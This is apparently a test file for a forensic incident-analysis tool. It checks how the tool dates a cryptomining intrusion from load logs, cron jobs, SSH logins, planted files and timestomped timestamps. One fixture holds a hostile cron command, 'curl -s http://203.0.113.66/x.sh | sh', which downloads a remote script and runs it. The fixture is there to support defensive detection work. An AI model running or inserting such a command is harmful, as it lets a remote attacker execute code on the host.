/** The times of an incident: the first file, the interval in which it began, and the onset of mining. */
import { expect, test } from 'bun:test';
import { analyse } from '../../src/incident/analyse.ts';
import {
  accepted,
  at,
  entry,
  event,
  failures,
  left,
  miner,
  read,
  scene,
  text,
} from '../../src/incident/incident.fixture.ts';
import type { LogEvent } from '../../src/model/facts/event.ts';
import { concluded, now } from './scenario.ts';

const hour = 3600e6;
const load = (from: string, hours: number, busy: number): readonly LogEvent[] =>
  Array.from({ length: hours * 6 }, (_, index) => ({
    ...event(from, { what: 'load', seconds: 600, busy }),
    us: at(from) + (index + 1) * 600e6,
  }));
const cron = (when: string, command: string): LogEvent =>
  event(when, { what: 'job', scheduler: 'cron', account: text('root'), command: text(command) });

test('a step of the load that holds is the onset', () => {
  const { onset } = concluded({
    events: [...load('2024-03-08 00:00:00', 50, 6), ...load('2024-03-10 02:00:00', 10 * 24 - 2, 97)],
    scene: { miners: [miner('2024-03-18 00:00:00')] },
  });
  expect(onset).toMatchObject({ us: at('2024-03-10 02:00:00'), by: 'load', certain: true });
  expect(onset?.witnesses.map(({ by }) => by)).toEqual(['load', 'miner']);
});

test('a batch that ended is none, and neither is a host that was always busy', () => {
  const ended = [
    ...load('2024-03-08 00:00:00', 24, 6),
    ...load('2024-03-09 00:00:00', 2, 97),
    ...load('2024-03-09 02:00:00', 262, 6),
  ];
  expect(concluded({ events: ended }).onset).toBeUndefined();
  // It was busy when its history begins: that is where it is seen first, and not since when.
  const { onset } = concluded({ events: load('2024-03-01 00:00:00', 19 * 24, 97) });
  expect(onset).toMatchObject({ us: at('2024-03-01 00:00:00'), by: 'load', certain: false });
  expect(onset?.quietUs).toBeUndefined();
});

test('the first run of what an accused entry runs', () => {
  const bad = 'curl -s http://203.0.113.66/x.sh | sh';
  const { onset, infectionWindow } = concluded({
    events: [
      cron('2024-03-01 00:00:00', 'run-parts /etc/cron.hourly'),
      cron('2024-03-11 04:00:01', bad),
      cron('2024-03-10 04:00:01', bad),
    ],
    scene: {
      entries: [entry('cron-user', '/var/spool/cron/root', '2024-03-12 00:00:00', { command: text(bad) })],
      miners: [miner('2024-03-13 00:00:00')],
    },
  });
  expect(onset).toMatchObject({ us: at('2024-03-10 04:00:01'), by: 'job' });
  expect(infectionWindow).toEqual({
    fromUs: at('2024-03-01 00:00:00'),
    toUs: at('2024-03-10 04:00:01'),
    boundedBy: { from: 'horizon', to: 'job' },
  });
});

test('the window lies between the success and the first trace', () => {
  const log =
    failures('2024-03-10 02:00:00', 90, 20, ['203.0.113.66'], ['root', 'a', 'b']) +
    accepted('2024-03-10 02:31:00', 'root', '203.0.113.66');
  const { infectionWindow, firstMaliciousFile } = concluded({
    events: read(log),
    scene: { files: [left('/root/.x/b', '2024-03-10 02:40:00'), left('/root/.x/a', '2024-03-10 02:33:00')] },
  });
  expect(firstMaliciousFile).toEqual({
    path: text('/root/.x/a'),
    us: at('2024-03-10 02:33:00'),
    grounded: true,
    finding: 'test',
  });
  expect(infectionWindow).toEqual({
    fromUs: at('2024-03-10 02:31:00'),
    toUs: at('2024-03-10 02:33:00'),
    boundedBy: { from: 'success', to: 'file' },
  });
});

test('a time that touch(1) set is not the first of the attacker', () => {
  const { changedUs: _, ...old } = left('/tmp/old', '2012-01-01 00:00:00');
  const stomped = left('/tmp/new', '2024-03-10 02:33:00', 'root', { modifiedUs: at('2011-01-01 00:00:00') });
  expect(concluded({ events: [], scene: { files: [old, stomped] } }).firstMaliciousFile).toMatchObject({
    path: '/tmp/new',
    us: at('2024-03-10 02:33:00'),
  });
  const alone = concluded({ events: [], scene: { files: [old] } });
  expect(alone.firstMaliciousFile).toMatchObject({ us: at('2012-01-01 00:00:00'), grounded: false });
  // Nothing is bounded by a time that whoever wrote the file chose.
  expect(alone.infectionWindow).toBeUndefined();
  const born = left('/tmp/b', '2024-03-10 02:33:00', 'root', { bornUs: at('2024-03-10 01:00:00') });
  expect(concluded({ events: [], scene: { files: [born] } })).toMatchObject({
    firstMaliciousFile: { us: at('2024-03-10 01:00:00'), grounded: true },
    infectionWindow: { toUs: at('2024-03-10 01:00:00'), boundedBy: { to: 'file' } },
  });
});

test('events may come, and an empty case concludes nothing', async () => {
  async function* events(): AsyncGenerator<LogEvent> {
    yield cron('2024-03-10 04:00:01', '/usr/bin/true');
  }
  expect(await analyse(events(), scene(), at(now))).toEqual({
    entry: [],
    excluded: [],
    horizon: [
      {
        source: text('/var/log/service.log'),
        fromUs: at('2024-03-10 04:00:01'),
        toUs: at('2024-03-10 04:00:01'),
        certain: true,
      },
    ],
    gaps: [],
  });
});

test('steps, zeros and silence of logs are gaps', () => {
  const { gaps } = concluded({
    events: [],
    logs: [
      {
        source: { source: text('/var/log/syslog') },
        verified: true,
        status: 'ok',
        nulBytes: 4096,
        modifiedUs: 0,
        steps: [{ line: 9, fromUs: 5 * hour, toUs: hour }],
        gaps: [{ fromUs: hour, toUs: 9 * hour, line: 20, booted: false }],
      },
    ],
  });
  expect(gaps.map(({ what }) => what)).toEqual(['zeros', 'silent', 'clock-back']);
});

test('lines of a clock that was not set yet do not make a log reach back to 1970', () => {
  const { horizon } = concluded({
    events: [cron('1970-01-01 00:00:12', 'x'), cron('2024-03-10 04:00:01', 'x')],
  });
  expect(horizon).toMatchObject([{ fromUs: at('2024-03-10 04:00:01') }]);
});
